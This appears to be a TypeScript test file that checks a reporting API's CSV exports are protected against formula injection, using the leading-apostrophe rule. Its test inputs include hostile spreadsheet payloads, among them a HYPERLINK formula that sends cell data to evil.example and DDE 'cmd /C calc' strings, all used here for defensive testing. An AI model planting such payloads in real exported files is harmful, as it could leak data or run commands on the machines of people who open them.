// Issue 25, finding 10 (CSV formula injection): in every CSV the API writes (control review, KPIs, returns) a text
// cell that begins with =, +, -, @, tab or CR gets OWASP's leading apostrophe, so a spreadsheet shows it as text and
// never evaluates it. The rule lives in one place (#domain/reporting/csv) and both CSV writers use it.
//
// The decision on numbers: OWASP says to prefix any cell starting with those characters. Here a cell the report holds
// as a JavaScript number (a count, a rate, a computed figure) is written as that number, even when negative: it is a
// value we computed, never text anyone typed, it cannot contain a formula (only digits, '-', '.', 'e'), and prefixing
// it would turn it into text that no longer sums. Every text cell is neutralised, including text that merely looks
// numeric ("-3", "+44 20…"): a user id, product group or configured name is data we do not control.
import { contributions, projector, returnAttr } from '#domain/reporting/projection';
import { controlReview, kpiSet } from '#domain/reporting/figures';
import { csvField, FORMULA_TRIGGERS, neutraliseCell } from '#domain/reporting/csv';
import { buildReturn, parseReturnPeriod, returnCsv } from '#domain/reporting/returns';
import { kpiCsv, reviewCsv } from '#http/report-csv';
import { ReportingOptions, ReturnsMapping, type KpiReport, type ReportingConfig, type ReviewRow } from '#schemas/reports';
import { openedCase } from '../unit/fixtures';
import { settle, startTestApi, validComplaint, type TestApi } from '../support/api';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const config: ReportingConfig = { ...ReportingOptions.parse({}), timeZone: 'Europe/London' };
const p = projector(config);

/** The CSV's cells, parsed back by the RFC 4180 rules (quoted fields may hold commas, quotes and line breaks). */
const cells = (csv: string): string[][] => {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    rows.at(-1)!.push(cell);
    cell = '';
  };
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted && ch === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      endCell();
    } else if (!quoted && ch === '\r' && csv[i + 1] === '\n') {
      endCell();
      rows.push([]);
      i++;
    } else {
      cell += ch;
    }
  }
  if (rows.at(-1)!.length === 0 && cell === '') rows.pop();
  return rows;
};

/** No cell of the CSV starts like a formula. */
const expectNoFormula = (csv: string) => {
  const starts = cells(csv)
    .flat()
    .filter((c) => c.length > 0 && FORMULA_TRIGGERS.includes(c[0]!));
  expect(starts).toEqual([]);
};

describe('the one neutralising rule', () => {
  it.each(FORMULA_TRIGGERS.map((t) => [JSON.stringify(t), t] as const))('a text cell starting with %s gets a leading apostrophe', (_name, t) => {
    expect(neutraliseCell(`${t}cmd`)).toBe(`'${t}cmd`);
  });

  it('leaves other text as it is (an apostrophe or a trigger later in the cell is harmless)', () => {
    expect(['plain', 'a=b', "it's", 'CMP-2026-000001', '', ' =1'].map(neutraliseCell)).toEqual(['plain', 'a=b', "it's", 'CMP-2026-000001', '', ' =1']);
  });

  it('numbers stay numbers, even negative; text that looks like a negative number is neutralised', () => {
    expect([csvField(-3), csvField(-0.5), csvField(12), csvField(null)]).toEqual(['-3', '-0.5', '12', '']);
    expect([csvField('-3'), csvField('+44 20 7946 0000')]).toEqual(["'-3", "'+44 20 7946 0000"]);
  });

  it('neutralises before quoting: a cell with a comma or a quote is still one field, apostrophe first', () => {
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });
});

describe('every report CSV', () => {
  it.each(HOSTILE)('control review: an owner id, category and product group of %j are text', (evil) => {
    const base = Object.values(contributions(openedCase({ ownerId: '+1+cmd' }), p).rows)[0]!;
    const row: ReviewRow = { ...base, ownerId: evil, productGroup: evil, category: evil, reference: evil };
    const csv = reviewCsv(controlReview([row], 1, '2026-03-02T09:00:00.000Z'));
    expectNoFormula(csv);
    expect(cells(csv)[1]).toEqual(expect.arrayContaining([`'${evil}`]));
  });

  it.each(HOSTILE)('KPIs: a group value of %j is text; the figures stay numbers', (evil) => {
    const open = { openAge: { '0-7d': 0, '8-14d': 0, '15-28d': 0, '29-56d': 0, 'over-56d': 0 }, overdueNow: 0 };
    const k = kpiSet({ rcv: 3 }, open);
    const report = { from: '2026-03-01', to: '2026-03-31', timeZone: 'Europe/London', asOf: '2026-03-31T12:00:00.000Z', groupBy: 'product', groups: [{ value: evil, ...k }], totals: k, rootCauseTrend: [], normalised: [{ unit: evil, received: 3, customers: 1000, accounts: null, per1000Customers: 3, per1000Accounts: null }] } as unknown as KpiReport;
    const csv = kpiCsv(report);
    expectNoFormula(csv);
    const [header, group] = cells(csv);
    expect(group![2]).toBe(`'${evil}`);
    expect(group![header!.indexOf('received')]).toBe('3');
  });

  it.each(HOSTILE)('returns: a product group and configured FCA product and cause names of %j are text (generic and FCA formats)', (evil) => {
    // A product group is an attribute segment of the month item (no '|' in it; in practice a slug).
    const group = evil.replace(/\|/g, '');
    const generic = [{ sk: 'M#2026-03', counts: { [returnAttr('o', group, 'billing')]: 2 } }];
    expectNoFormula(returnCsv(buildReturn({ regime: 'US_CFPB', period: parseReturnPeriod('US_CFPB', '2026-03'), months: generic, generatedAt: '2026-04-01T08:00:00.000Z' })));
    const months = [{ sk: 'M#2026-03', counts: { [returnAttr('o', 'cards', 'billing')]: 2 } }];
    const mapping = ReturnsMapping.parse({ products: { cards: evil }, causes: { billing: evil } });
    expectNoFormula(returnCsv(buildReturn({ regime: 'UK_FCA_DISP', period: parseReturnPeriod('UK_FCA_DISP', '2026-H1'), months, mapping, generatedAt: '2026-07-01T08:00:00.000Z' })));
  });
});

describe('through the API (local stack): the issue’s reproduction, an owner id of +1+cmd', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi({}, { reports: true });
  });
  afterAll(() => api.close());

  it('GET /v1/reports/control-review as text/csv exports the owner as text', async () => {
    const token = await api.token('csv-supervisor', ['supervisor']);
    const created = await settle(api.client(token).POST('/v1/complaints', { body: validComplaint({ ownerId: '+1+cmd' }) }));
    expect(created.status).toBe(201);
    await api.pump();
    const res = await settle(api.client(token).GET('/v1/reports/control-review', { params: { query: { last: 1 } }, headers: { accept: 'text/csv' }, parseAs: 'text' }));
    expect(res.status).toBe(200);
    expectNoFormula(res.text);
    const [header, row] = cells(res.text);
    expect(row![header!.indexOf('owner')]).toBe("'+1+cmd");
  });
});
